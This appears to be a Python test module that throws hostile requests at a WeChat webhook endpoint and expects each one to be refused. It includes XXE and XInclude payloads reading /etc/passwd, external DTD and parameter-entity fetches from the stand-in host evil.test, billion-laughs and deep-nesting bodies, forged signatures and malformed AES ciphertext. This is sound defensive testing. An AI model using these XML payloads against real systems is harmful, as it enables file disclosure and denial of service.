"""Hostile cases for the official-account webhook: GET /wechat, POST plain and safe mode.

What "refused" looks like here (webapp/http/wechat.py): a bare ``text/plain``
400 (malformed), 403 (bad signature, stale timestamp, replayed nonce) or 413
(over 1 MiB), before the storefront runs. A message that is correctly signed
and well formed is a real user's message and is answered (200), so injection
strings are tried where they must be refused: in unsigned requests and in the
structural fields (CreateTime, MsgId, ids) of signed ones.
"""
from __future__ import annotations

import base64
import os
import struct
import time
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from tests.support.hostile.support import (
    HUGE_NUMBERS,
    INJECTIONS,
    LONE_SURROGATE,
    Case,
    Req,
    World,
)
from tests.support.wechat_messages import (
    ACCOUNT,
    AES_KEY,
    APP_ID,
    BILLION_LAUGHS,
    OLD_AES_KEY,
    TOKEN,
    XXE,
    cdata,
    event_xml,
    message_xml,
    next_msg_id,
    signed_query,
    text_xml,
    wx_sign,
)

GET = "webhook-get"
PLAIN = "webhook-post"
SAFE = "webhook-safe"
MIB = 1024 * 1024
DEEP = 100_000


# --- GET /wechat: URL verification ---------------------------------------------------------


def _verify_query(**change: Any) -> dict[str, str]:
    ts = str(int(time.time()))
    nonce = str(next_msg_id())
    query = {"signature": wx_sign(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce,
             "echostr": "1234567890"}
    for key, value in change.items():
        if value is None:
            query.pop(key, None)
        else:
            query[key] = value
    return query


def _resigned(timestamp: str) -> Callable[[World], Req]:
    def build(world: World) -> Req:
        nonce = str(next_msg_id())
        return Req("GET", "/wechat", query={
            "signature": wx_sign(TOKEN, timestamp, nonce), "timestamp": timestamp,
            "nonce": nonce, "echostr": "hello"})
    return build


def _get(**change: Any) -> Callable[[World], Req]:
    return lambda world: Req("GET", "/wechat", query=_verify_query(**change))


def _get_raw(query: str) -> Callable[[World], Req]:
    return lambda world: Req("GET", "/wechat", query=query)


def get_cases() -> list[Case]:
    """URL verification: every bad signature, timestamp and parameter is a 400 or 403."""
    now = int(time.time())
    cases = [
        Case(GET, "missing-echostr", _get(echostr=None)),
        Case(GET, "missing-signature", _get(signature=None)),
        Case(GET, "missing-timestamp", _get(timestamp=None)),
        Case(GET, "missing-nonce", _get(nonce=None)),
        Case(GET, "no-query", lambda w: Req("GET", "/wechat")),
        Case(GET, "wrong-signature", _get(signature="0" * 40)),
        Case(GET, "signature-uppercase-garbage", _get(signature="F" * 40)),
        Case(GET, "signature-of-another-token",
             lambda w: Req("GET", "/wechat", query=_other_token_query())),
        Case(GET, "signature-too-long", _get(signature="a" * 10_000)),
        Case(GET, "nonce-too-long", _get(nonce="n" * 10_000)),
        Case(GET, "stale-timestamp", _resigned(str(now - 3600))),
        Case(GET, "future-timestamp", _resigned(str(now + 3600))),
        Case(GET, "timestamp-zero", _resigned("0")),
        Case(GET, "timestamp-letters", _resigned("abc")),
        Case(GET, "timestamp-negative", _resigned("-1")),
        Case(GET, "timestamp-float", _resigned(f"{now}.5")),
        Case(GET, "timestamp-exponent", _resigned("1e9")),
        Case(GET, "signature-lone-surrogate-bytes",
             _get_raw("signature=%ED%A0%80&timestamp=1&nonce=1&echostr=x")),
        Case(GET, "signature-invalid-utf8",
             _get_raw("signature=%FF%FE&timestamp=1&nonce=1&echostr=x")),
        Case(GET, "nonce-nul", _get_raw("signature=a&timestamp=1&nonce=%00&echostr=x")),
        Case(GET, "echostr-lone-surrogate-unsigned",
             _get_raw("signature=0&timestamp=1&nonce=1&echostr=%ED%A0%80")),
    ]
    for name, number in HUGE_NUMBERS.items():
        cases.append(Case(GET, f"timestamp-{name}", _resigned(str(number))))
    for name, value in INJECTIONS.items():
        cases.append(Case(GET, f"echostr-{name}-bad-signature", _get(echostr=value, signature="0")))
        cases.append(Case(GET, f"nonce-{name}-bad-signature", _get(nonce=value, signature="0")))
    return cases


def _other_token_query() -> dict[str, str]:
    ts, nonce = str(int(time.time())), str(next_msg_id())
    return {"signature": wx_sign("someone-elses-token", ts, nonce), "timestamp": ts,
            "nonce": nonce, "echostr": "x"}


# --- POST /wechat, plaintext ---------------------------------------------------------------


def _post(body: bytes | Callable[[World], bytes], **query_kw: Any) -> Callable[[World], Req]:
    def build(world: World) -> Req:
        data = body(world) if callable(body) else body
        return Req("POST", "/wechat", query=signed_query(**query_kw), data=data,
                   content_type="text/xml")
    return build


def _post_query(body: bytes, query: Callable[[], dict[str, str]]) -> Callable[[World], Req]:
    return lambda world: Req("POST", "/wechat", query=query(), data=body,
                             content_type="text/xml")


def _fields_xml(**fields: str) -> bytes:
    parts = "".join(f"<{k}>{cdata(v)}</{k}>" for k, v in fields.items())
    return f"<xml>{parts}</xml>".encode("utf-8", "surrogatepass")


def _message(**change: str | None) -> bytes:
    """A text message with fields replaced (None: removed)."""
    fields: dict[str, str] = {
        "ToUserName": ACCOUNT, "FromUserName": "o-demo-xiaoming",
        "CreateTime": str(int(time.time())), "MsgType": "text", "Content": "菜单",
        "MsgId": str(next_msg_id()),
    }
    for key, value in change.items():
        if value is None:
            fields.pop(key, None)
        else:
            fields[key] = value
    return _fields_xml(**fields)


def _unsigned_query() -> dict[str, str]:
    query = signed_query()
    query["signature"] = "0" * 40
    return query


def _stale_query() -> dict[str, str]:
    return signed_query(timestamp=int(time.time()) - 3600)


def _other_token_post_query() -> dict[str, str]:
    return signed_query(token="someone-elses-token")


def _deep_xml() -> bytes:
    return ("<xml>" + "<a>" * DEEP + "</a>" * DEEP + "</xml>").encode()


def _prime_and_forge(world: World, client: Any) -> None:
    """Send one genuine event under a signed query; the case replays the query with a new body."""
    body = event_xml("TEMPLATESENDJOBFINISH", openid=world.openids["buyer"]).encode()
    query = _REPLAYED.setdefault("query", signed_query())
    response = client.post("/wechat", query_string=query, data=body, content_type="text/xml")
    assert response.status_code == 200, response.get_data(as_text=True)


_REPLAYED: dict[str, dict[str, str]] = {}


def _forged_replay(world: World) -> Req:
    query = _REPLAYED.setdefault("query", signed_query())
    return Req("POST", "/wechat", query=query, data=text_xml("forged", openid="o-demo-lilei")
               .encode(), content_type="text/xml")


def plain_cases() -> list[Case]:
    """Plaintext POSTs: hostile XML, encodings, signatures, timestamps and structural fields."""
    text = text_xml("hello").encode()
    bodies: dict[str, bytes | Callable[[World], bytes]] = {
        "xxe": XXE.encode(),
        "billion-laughs": BILLION_LAUGHS.encode(),
        "external-dtd": b"<!DOCTYPE xml SYSTEM 'http://evil.test/x.dtd'><xml><A>1</A></xml>",
        "doctype-after-comment": b"<!-- hi --><!DOCTYPE xml [<!ENTITY e 'x'>]><xml/>",
        "doctype-after-pi": b"<?xml version='1.0'?><!DOCTYPE xml><xml/>",
        "parameter-entity": b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.test/p'> %p;]><xml/>",
        "undeclared-entity": b"<xml><Content>&xxe;</Content></xml>",
        "xinclude": b'<xml xmlns:xi="http://www.w3.org/2001/XInclude">'
                    b'<xi:include href="file:///etc/passwd" parse="text"/></xml>',
        "utf16": "<xml><A>1</A></xml>".encode("utf-16"),
        "declared-utf16": b'<?xml version="1.0" encoding="UTF-16"?><xml><A>1</A></xml>',
        "invalid-utf8": b"<xml><Content>\xff\xfe\xfd</Content></xml>",
        "overlong-utf8": b"<xml><Content>\xc0\xbcscript\xc0\xbe</Content></xml>",
        "lone-surrogate-utf8": lambda w: _message(Content=LONE_SURROGATE),
        "nul-byte": b"<xml><Content>a\x00b</Content></xml>",
        "control-char": b"<xml><Content>a\x01b</Content></xml>",
        "empty": b"",
        "whitespace": b" \r\n\t ",
        "json": b'{"ToUserName": "gh", "MsgType": "text"}',
        "html-root": b"<html><body><xml/></body></html>",
        "unclosed": b"<xml><Content>hi",
        "two-roots": b"<xml/><xml/>",
        "deep-xml": lambda w: _deep_xml(),
        "oversized": b"<xml><Content>" + b"x" * (MIB + 1) + b"</Content></xml>",
        "missing-from": lambda w: _message(FromUserName=None),
        "missing-to": lambda w: _message(ToUserName=None),
        "from-too-long": lambda w: _message(FromUserName="o" * 65),
        "from-newline": lambda w: _message(FromUserName="o-demo\nxiaoming"),
        "from-blank": lambda w: _message(FromUserName="   "),
        "missing-createtime": lambda w: _message(CreateTime=None),
        "createtime-float": lambda w: _message(CreateTime="1700000000.5"),
        "createtime-negative": lambda w: _message(CreateTime="-1"),
        "createtime-exponent": lambda w: _message(CreateTime="1e9"),
        "createtime-fullwidth-digits": lambda w: _message(CreateTime="１７００"),
        "msgid-negative": lambda w: _message(MsgId="-1"),
        "msgid-float": lambda w: _message(MsgId="1.5"),
        "msgid-40-digits": lambda w: _message(MsgId="9" * 40),
    }
    for name, number in HUGE_NUMBERS.items():
        if number >= 0:
            bodies[f"createtime-{name}"] = (lambda n: lambda w: _message(CreateTime=str(n)))(number)
        bodies[f"msgid-{name}"] = (lambda n: lambda w: _message(MsgId=str(n * 10**20)))(number)
    for name, value in INJECTIONS.items():
        bodies[f"createtime-{name}"] = (lambda v: lambda w: _message(CreateTime=v))(value)
        bodies[f"msgid-{name}"] = (lambda v: lambda w: _message(MsgId=v))(value)
    cases = [Case(PLAIN, name, _post(body)) for name, body in bodies.items()]
    for name, value in INJECTIONS.items():
        cases.append(Case(PLAIN, f"unsigned-{name}",
                          _post_query(text_xml(value).encode(), _unsigned_query)))
    cases += [
        Case(PLAIN, "stale-timestamp", _post_query(text, _stale_query)),
        Case(PLAIN, "signed-with-another-token", _post_query(text, _other_token_post_query)),
        Case(PLAIN, "no-signature", _post_query(text, lambda: {
            k: v for k, v in signed_query().items() if k != "signature"})),
        Case(PLAIN, "unknown-encrypt-type", _post_query(text, lambda: {
            **signed_query(), "encrypt_type": "des"})),
        Case(PLAIN, "aes-without-msg-signature", _post_query(text, lambda: {
            **signed_query(), "encrypt_type": "aes"})),
        Case(PLAIN, "replayed-signature-other-body", _forged_replay, prime=_prime_and_forge),
    ]
    return cases


# --- POST /wechat, safe mode -----------------------------------------------------------------


def _seal(inner: bytes, aes_key: str = AES_KEY, app_id: str = APP_ID,
          length: int | None = None, pad_byte: int | None = None) -> str:
    """WeChat's Encrypt for raw bytes, optionally with a lying length or bad padding."""
    key = base64.b64decode(aes_key + "=")
    plain = (os.urandom(16) + struct.pack(">I", len(inner) if length is None else length)
             + inner + app_id.encode())
    pad = 32 - len(plain) % 32
    plain += bytes([pad if pad_byte is None else pad_byte]) * pad
    enc = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(enc.update(plain) + enc.finalize()).decode()


def _safe(encrypt: Callable[[World], str], *, sign_ok: bool = True,
          envelope: Callable[[str], bytes] | None = None,
          query_change: dict[str, Any] | None = None) -> Callable[[World], Req]:
    def build(world: World) -> Req:
        value = encrypt(world)
        body = envelope(value) if envelope else (
            f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName>"
            f"<Encrypt>{cdata(value)}</Encrypt></xml>").encode()
        query = signed_query(encrypt=value)
        if not sign_ok:
            query["msg_signature"] = "0" * 40
        for key, item in (query_change or {}).items():
            if item is None:
                query.pop(key, None)
            else:
                query[key] = item
        return Req("POST", "/wechat", query=query, data=body, content_type="text/xml")
    return build


def safe_cases() -> list[Case]:
    """Safe mode: signatures over the ciphertext, hostile ciphertext and hostile inner XML."""
    good = text_xml("hello").encode()
    inner: dict[str, Callable[[World], bytes]] = {
        "inner-xxe": lambda w: XXE.encode(),
        "inner-billion-laughs": lambda w: BILLION_LAUGHS.encode(),
        "inner-invalid-utf8": lambda w: b"<xml><Content>\xff</Content></xml>",
        "inner-lone-surrogate": lambda w: _message(Content=LONE_SURROGATE),
        "inner-deep-xml": lambda w: _deep_xml(),
        "inner-not-xml": lambda w: b"just text",
        "inner-missing-from": lambda w: _message(FromUserName=None),
        "inner-createtime-sql": lambda w: _message(CreateTime=INJECTIONS["sql"]),
        "inner-msgid-template": lambda w: _message(MsgId=INJECTIONS["template"]),
    }
    cases = [Case(SAFE, name, _safe(lambda w, f=f: _seal(f(w)))) for name, f in inner.items()]
    cases += [
        Case(SAFE, "bad-msg-signature", _safe(lambda w: _seal(good), sign_ok=False)),
        Case(SAFE, "missing-msg-signature",
             _safe(lambda w: _seal(good), query_change={"msg_signature": None})),
        Case(SAFE, "stale-timestamp", _safe(lambda w: _seal(good), query_change={
            "timestamp": str(int(time.time()) - 3600)})),
        Case(SAFE, "foreign-appid", _safe(lambda w: _seal(good, app_id="wxforeignapp0001"))),
        Case(SAFE, "other-aes-key", _safe(lambda w: _seal(good, aes_key=OLD_AES_KEY))),
        Case(SAFE, "length-lies-long", _safe(lambda w: _seal(good, length=10**6))),
        Case(SAFE, "length-max-uint32", _safe(lambda w: _seal(good, length=2**32 - 1))),
        Case(SAFE, "bad-padding", _safe(lambda w: _seal(good, pad_byte=0))),
        Case(SAFE, "padding-too-large", _safe(lambda w: _seal(good, pad_byte=200))),
        Case(SAFE, "not-base64", _safe(lambda w: "%%%not base64%%%")),
        Case(SAFE, "base64-not-ciphertext", _safe(lambda w: base64.b64encode(b"x" * 5).decode())),
        Case(SAFE, "ciphertext-not-block-multiple",
             _safe(lambda w: base64.b64encode(os.urandom(33)).decode())),
        Case(SAFE, "empty-encrypt", _safe(lambda w: "")),
        Case(SAFE, "encrypt-injection", _safe(lambda w: INJECTIONS["cdata"])),
        Case(SAFE, "envelope-xxe", _safe(lambda w: _seal(good), envelope=lambda e: (
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            f"<xml><Encrypt>{cdata(e)}</Encrypt><A>&e;</A></xml>").encode())),
        Case(SAFE, "envelope-oversized", _safe(lambda w: _seal(good), envelope=lambda e: (
            f"<xml><Encrypt>{cdata(e)}</Encrypt><Pad>{'x' * (MIB + 1)}</Pad></xml>").encode())),
        Case(SAFE, "encrypt-nested", _safe(lambda w: _seal(good), envelope=lambda e: (
            f"<xml><Encrypt><Inner>{cdata(e)}</Inner></Encrypt></xml>").encode())),
    ]
    return cases


def cases() -> list[Case]:
    """Every webhook case."""
    return get_cases() + plain_cases() + safe_cases()


__all__ = ["cases", "get_cases", "message_xml", "plain_cases", "safe_cases"]
